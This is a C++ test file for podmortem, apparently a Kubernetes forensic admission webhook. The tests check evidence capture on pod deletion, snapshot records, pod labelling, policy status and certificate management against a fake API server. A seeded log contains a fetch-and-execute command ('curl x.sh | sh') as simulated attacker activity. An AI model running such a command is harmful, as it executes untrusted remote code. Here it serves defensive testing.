// The whole server against the fake API server: a policy created through the API, a pod DELETE
// through admission, live collectors reading logs, events, owners and the node, the
// EvidenceSnapshot record, the pod labelled, the policy's status written by the leader.
#include <gtest/gtest.h>

#include <openssl/sha.h>

#include "fake_api_server.h"
#include "running_server.h"

namespace podmortem::testing {
namespace {

using nlohmann::json;

constexpr const char* kPolicies = "podmortem.io/forensicpolicies";
constexpr const char* kSnapshots = "podmortem.io/evidencesnapshots";

json forensicPolicy(const std::string& name, const json& spec) {
  return {{"apiVersion", "podmortem.io/v1alpha1"}, {"kind", "ForensicPolicy"},
          {"metadata", {{"name", name}}}, {"spec", spec}};
}

json protectWeb(const std::string& hold, const json& collectors) {
  return {{"match", {{"namespaces", {"prod-*"}}, {"namespaceSelector", {{"matchLabels", {{"tier", "production"}}}}}}},
          {"triggers", {{{"source", "admission"}, {"operations", {"DELETE"}}, {"resources", {"pods"}}}}},
          {"actions", {{"snapshot", {{"collectors", collectors}, {"holdDeletion", hold}}},
                       {"labels", {{"podmortem.io/suspect", "true"}}}}}};
}

std::string sha256Hex(const std::string& bytes) {
  unsigned char digest[SHA256_DIGEST_LENGTH];
  SHA256(reinterpret_cast<const unsigned char*>(bytes.data()), bytes.size(), digest);
  static constexpr char kHex[] = "0123456789abcdef";
  std::string hex;
  for (unsigned char byte : digest) {
    hex += kHex[byte >> 4];
    hex += kHex[byte & 15];
  }
  return hex;
}

// The cluster the DELETE in tests/fixtures/admission/delete-pod-web.json happens in: the pod,
// its ReplicaSet and Deployment, an event, logs (the container restarted once), node, service
// account, and its namespace labelled as production.
// The DELETE the API server sends for that pod: oldObject is the pod as stored.
std::string deleteOfSeededPod() {
  json review = parseJson(readFile(ownFixture("admission/delete-pod-web.json")));
  json& pod = review["request"]["oldObject"];
  pod["metadata"]["ownerReferences"] = {{{"apiVersion", "apps/v1"}, {"kind", "ReplicaSet"},
                                          {"name", "web-7c9d5f"}, {"uid", "rs-uid"}, {"controller", true}}};
  pod["status"]["containerStatuses"] = {{{"name", "web"}, {"restartCount", 1},
                                         {"image", "nginx:1.25"},
                                         {"imageID", "docker.io/library/nginx@sha256:0123abcd"}}};
  return review.dump();
}

void seedCluster(FakeApiServer& api) {
  json pod = parseJson(deleteOfSeededPod())["request"]["oldObject"];
  api.put("/pods", pod);
  api.put("/namespaces", {{"apiVersion", "v1"}, {"kind", "Namespace"},
                          {"metadata", {{"name", "prod-shop"}, {"labels", {{"tier", "production"}}}}}});
  api.put("apps/replicasets",
          {{"apiVersion", "apps/v1"}, {"kind", "ReplicaSet"},
           {"metadata", {{"name", "web-7c9d5f"}, {"namespace", "prod-shop"},
                         {"ownerReferences", {{{"apiVersion", "apps/v1"}, {"kind", "Deployment"},
                                               {"name", "web"}, {"controller", true}}}}}}});
  api.put("apps/deployments", {{"apiVersion", "apps/v1"}, {"kind", "Deployment"},
                               {"metadata", {{"name", "web"}, {"namespace", "prod-shop"}}}});
  api.put("/events", {{"apiVersion", "v1"}, {"kind", "Event"},
                      {"metadata", {{"name", "web-7c9d5f-abcde.1"}, {"namespace", "prod-shop"}}},
                      {"involvedObject", {{"kind", "Pod"}, {"name", "web-7c9d5f-abcde"},
                                          {"uid", "0f6a2b1c-5d4e-4f3a-9b8c-7d6e5f4a3b2c"}}},
                      {"reason", "BackOff"}, {"message", "Back-off restarting failed container"}});
  api.put("/events", {{"apiVersion", "v1"}, {"kind", "Event"},
                      {"metadata", {{"name", "other.1"}, {"namespace", "prod-shop"}}},
                      {"involvedObject", {{"kind", "Pod"}, {"name", "other"}, {"uid", "other-uid"}}}});
  api.put("/nodes", {{"apiVersion", "v1"}, {"kind", "Node"}, {"metadata", {{"name", "worker-2"}}},
                     {"status", {{"nodeInfo", {{"kernelVersion", "6.1.0-13-amd64"}}}}}});
  api.put("/serviceaccounts", {{"apiVersion", "v1"}, {"kind", "ServiceAccount"},
                               {"metadata", {{"name", "default"}, {"namespace", "prod-shop"}}}});
  api.setLog("prod-shop", "web-7c9d5f-abcde", "web", false,
             "2026-11-28T09:01:00Z GET /admin 200\n2026-11-28T09:01:02Z sh -c 'curl x.sh | sh'\n");
  api.setLog("prod-shop", "web-7c9d5f-abcde", "web", true, "2026-11-28T08:59:00Z crashed\n");
}

struct KubeServer {
  TempDir dir;
  FakeApiServer api{{.token = "podmortem-sa-token"}};
  std::unique_ptr<RunningServer> server;

  explicit KubeServer(const std::function<void(cli::Config&)>& adjust = {},
                      const std::function<void(FakeApiServer&)>& seed = {}) {
    if (seed) seed(api);  // what exists before podmortem starts
    api.writeKubeconfig(dir.path() / "kubeconfig", "podmortem-sa-token");
    server = std::make_unique<RunningServer>("", cli::ApplicationHooks{}, [&](cli::Config& config) {
      config.kubernetes.mode = kube::Mode::kKubeconfig;
      config.kubernetes.kubeconfig = (dir.path() / "kubeconfig").string();
      config.kubernetes.podName = "podmortem-0";
      config.cluster.statusInterval = std::chrono::milliseconds(100);
      config.leaderElection.retryPeriod = std::chrono::milliseconds(100);
      if (adjust) adjust(config);
    });
  }

  ~KubeServer() {
    api.release();  // a stalled request must not outlive a failed assertion
    server.reset();
  }

  bool ready() { return server->client().get("/readyz").status == 200; }
  double validPolicies() {
    auto text = server->metricsClient().get("/metrics").body;
    auto at = text.find("\npodmortem_policies{state=\"valid\"} ");
    return at == std::string::npos ? -1 : std::stod(text.substr(at + 34));
  }
};

TEST(KubernetesFlowTest, PolicyFromTheApiThenDeleteGivesACompleteRecordedSnapshot) {
  KubeServer k;
  seedCluster(k.api);
  EXPECT_EQ(k.server->client().get("/readyz").status, 503u) << "not ready before policies are listed";
  k.api.put(kPolicies, forensicPolicy("protect-web",
                                      protectWeb("10s", {"pod", "auditTrail", "owners", "events", "logs",
                                                         "previousLogs", "node", "serviceAccount",
                                                         "references", "images"})));
  ASSERT_TRUE(eventually([&] { return k.ready() && k.validPolicies() == 1; }));

  std::string deleteReview = deleteOfSeededPod();
  auto response = k.server->client().post("/validate?timeout=10s", deleteReview);
  ASSERT_EQ(response.status, 200u);
  auto review = parseJson(response.body);
  ASSERT_EQ(review["response"]["warnings"].size(), 1u) << response.body;
  std::string warning = review["response"]["warnings"][0];
  EXPECT_NE(warning.find("captured (policy protect-web"), std::string::npos) << warning;

  // The bundle: the admission copy, the live pod, owners, events, logs, node, service account.
  auto snapshots = k.server->snapshots();
  ASSERT_EQ(snapshots.size(), 1u);
  auto bundle = snapshots[0];
  EXPECT_EQ(parseJson(readFile(bundle / "pod.json")), parseJson(deleteReview)["request"]["oldObject"]);
  EXPECT_EQ(parseJson(readFile(bundle / "pod.live.json"))["metadata"]["name"], "web-7c9d5f-abcde");
  EXPECT_NE(readFile(bundle / "logs/web.log").find("curl x.sh | sh"), std::string::npos);
  EXPECT_EQ(readFile(bundle / "logs/web.previous.log"), "2026-11-28T08:59:00Z crashed\n");
  auto events = parseJson(readFile(bundle / "events.json"));
  ASSERT_EQ(events["items"].size(), 1u) << "only the pod's own events";
  EXPECT_EQ(events["items"][0]["reason"], "BackOff");
  EXPECT_EQ(parseJson(readFile(bundle / "owners/replicaset-web-7c9d5f.json"))["kind"], "ReplicaSet");
  EXPECT_EQ(parseJson(readFile(bundle / "owners/deployment-web.json"))["kind"], "Deployment");
  EXPECT_EQ(parseJson(readFile(bundle / "node.json"))["status"]["nodeInfo"]["kernelVersion"], "6.1.0-13-amd64");
  EXPECT_EQ(parseJson(readFile(bundle / "serviceaccount.json"))["metadata"]["name"], "default");
  EXPECT_EQ(parseJson(readFile(bundle / "images.json"))[0]["imageID"], "docker.io/library/nginx@sha256:0123abcd");
  auto manifest = parseJson(readFile(bundle / "manifest.json"));
  EXPECT_EQ(manifest["phase"], "Complete") << manifest.dump(2);
  EXPECT_EQ(manifest["actions"][0]["action"], "labels");
  EXPECT_EQ(manifest["actions"][0]["result"], "applied");
  EXPECT_EQ(runCommand(std::string(PODMORTEM_BINARY) + " verify " + k.server->evidenceDir().string()).exitCode, 0);

  // The action: the pod is labelled.
  EXPECT_EQ(k.api.get("/pods", "prod-shop", "web-7c9d5f-abcde").value()["metadata"]["labels"]["podmortem.io/suspect"], "true");

  // The record: an EvidenceSnapshot in podmortem's namespace, completed.
  ASSERT_TRUE(eventually([&] {
    auto records = k.api.list(kSnapshots);
    return records.size() == 1 && records[0].contains("status") &&
           records[0]["status"].value("phase", "") == "Complete";
  }));
  auto record = k.api.list(kSnapshots)[0];
  EXPECT_EQ(record["metadata"]["namespace"], "podmortem-system");
  EXPECT_EQ(record["metadata"]["name"], bundle.filename().string());
  EXPECT_EQ(record["spec"]["pod"]["uid"], "0f6a2b1c-5d4e-4f3a-9b8c-7d6e5f4a3b2c");
  EXPECT_EQ(record["spec"]["trigger"]["user"], "eve");
  EXPECT_EQ(record["spec"]["replica"], "podmortem-0");
  EXPECT_EQ(record["status"]["artifactCount"], manifest["artifacts"].size());
  EXPECT_EQ(record["status"]["bundle"]["manifestSHA256"], sha256Hex(readFile(bundle / "manifest.json")));
  EXPECT_EQ(record["status"]["actions"][0]["result"], "applied");

  // The leader writes the policy's status: Ready, counted, summarised for kubectl.
  ASSERT_TRUE(eventually([&] {
    auto policy = k.api.get(kPolicies, "", "protect-web");
    return policy && policy->contains("status") && (*policy)["status"].value("matches", 0) == 1;
  }));
  auto status = k.api.get(kPolicies, "", "protect-web").value()["status"];
  EXPECT_EQ(status["conditions"][0]["type"], "Ready");
  EXPECT_EQ(status["conditions"][0]["status"], "True");
  EXPECT_EQ(status["observedGeneration"], 1);
  EXPECT_EQ(status["snapshots"], 1);
  EXPECT_EQ(status["triggers"], "DELETE pods");
  EXPECT_EQ(status["actions"], "snapshot, labels");
  EXPECT_TRUE(status.contains("lastTriggerTime"));
  auto lease = k.api.get("coordination.k8s.io/leases", "podmortem-system", "podmortem-leader");
  ASSERT_TRUE(lease.has_value());
  EXPECT_EQ((*lease)["spec"]["holderIdentity"], "podmortem-0");
}

TEST(KubernetesFlowTest, InvalidPolicyIsReadyFalseWithTheReasonAndOthersKeepWorking) {
  KubeServer k;
  k.api.put(kPolicies, forensicPolicy("good", protectWeb("10s", {"pod"})));
  json bad = protectWeb("10s", {"pod"});
  bad["actions"]["snapshot"]["onTimeout"] = "maybe";
  k.api.put(kPolicies, forensicPolicy("bad", bad));
  ASSERT_TRUE(eventually([&] {
    auto policy = k.api.get(kPolicies, "", "bad");
    return policy && policy->contains("status");
  }));
  auto condition = k.api.get(kPolicies, "", "bad").value()["status"]["conditions"][0];
  EXPECT_EQ(condition["status"], "False");
  EXPECT_EQ(condition["reason"], "Invalid");
  EXPECT_NE(condition["message"].get<std::string>().find("spec.actions.snapshot.onTimeout"), std::string::npos)
      << condition.dump();
  EXPECT_EQ(k.validPolicies(), 1);
  // Fixed through the API: Ready turns True, with the new generation.
  k.api.put(kPolicies, forensicPolicy("bad", protectWeb("10s", {"pod"})));
  ASSERT_TRUE(eventually([&] {
    auto status = k.api.get(kPolicies, "", "bad").value().value("status", json::object());
    return !status.empty() && status["conditions"][0]["status"] == "True" && status["observedGeneration"] == 2;
  }));
}

TEST(KubernetesFlowTest, ApiDownGivesAPartialSnapshotWithinTheHoldTime) {
  KubeServer k;
  seedCluster(k.api);
  k.api.put(kPolicies, forensicPolicy("protect-web", protectWeb("3s", {"pod", "events", "logs", "node"})));
  ASSERT_TRUE(eventually([&] { return k.ready() && k.validPolicies() == 1; }));
  // The API server hangs on every pod, event and node request: the capture cannot finish.
  k.api.stall("/api/v1/");
  auto started = std::chrono::steady_clock::now();
  auto response = k.server->client().post("/validate?timeout=10s", readFile(ownFixture("admission/delete-pod-web.json")));
  auto elapsed = std::chrono::steady_clock::now() - started;
  ASSERT_EQ(response.status, 200u);
  EXPECT_LT(elapsed, std::chrono::milliseconds(3500)) << "answered within the hold time";
  auto review = parseJson(response.body);
  EXPECT_EQ(review["response"]["allowed"], true);
  ASSERT_TRUE(eventually([&] { return k.server->snapshots().size() == 1; }));
  auto manifest = parseJson(readFile(k.server->snapshots()[0] / "manifest.json"));
  EXPECT_EQ(manifest["phase"], "Partial");
  std::string reasons = manifest.dump();
  EXPECT_NE(reasons.find("timed out"), std::string::npos) << reasons;
  EXPECT_NE(readFile(k.server->snapshots()[0] / "pod.json"), "") << "the admission copy is kept";
  k.api.release();

  // Down altogether (connections refused): the collectors fail fast and say why.
  k.api.setDown(true);
  auto again = k.server->client().post("/validate?timeout=10s",
                                      [&] {
                                        auto other = parseJson(readFile(ownFixture("admission/delete-pod-web.json")));
                                        other["request"]["uid"] = "another-request";
                                        other["request"]["oldObject"]["metadata"]["uid"] = "another-pod-uid";
                                        return other.dump();
                                      }());
  ASSERT_EQ(again.status, 200u);
  ASSERT_TRUE(eventually([&] { return k.server->snapshots().size() == 2; }));
  std::string warning = parseJson(again.body)["response"]["warnings"][0];
  EXPECT_NE(warning.find("partially captured"), std::string::npos) << warning;
}

TEST(KubernetesFlowTest, ManagedCertificateFromTheSecretIsServedAndInTheCaBundle) {
  const char* kWebhooks = "admissionregistration.k8s.io/validatingwebhookconfigurations";
  KubeServer k([](cli::Config& config) { config.tls.manageSecret = true; },
               [&](FakeApiServer& api) {
                 // kubectl apply -k manifests/ made it, with no caBundle.
                 api.put(kWebhooks, {{"apiVersion", "admissionregistration.k8s.io/v1"},
                                     {"kind", "ValidatingWebhookConfiguration"},
                                     {"metadata", {{"name", "podmortem"}}},
                                     {"webhooks", {{{"name", "pods.podmortem.io"}, {"clientConfig", json::object()}}}}});
               });
  auto secret = k.api.get("/secrets", "podmortem-system", "podmortem-webhook-tls");
  ASSERT_TRUE(secret.has_value()) << "created at start";
  auto http = k.server->client();  // trusts only the CA podmortem reports: the Secret's
  ASSERT_EQ(http.get("/healthz").status, 200u);
  auto decode = [](const std::string& b64) { return runCommand("printf '%s' '" + b64 + "' | base64 -d").output; };
  EXPECT_EQ(http.peerCertificatePem(), decode((*secret)["data"]["tls.crt"]));
  auto config = k.api.get(kWebhooks, "", "podmortem");
  EXPECT_EQ(decode((*config)["webhooks"][0]["clientConfig"]["caBundle"]), decode((*secret)["data"]["ca.crt"]));
}

}  // namespace
}  // namespace podmortem::testing
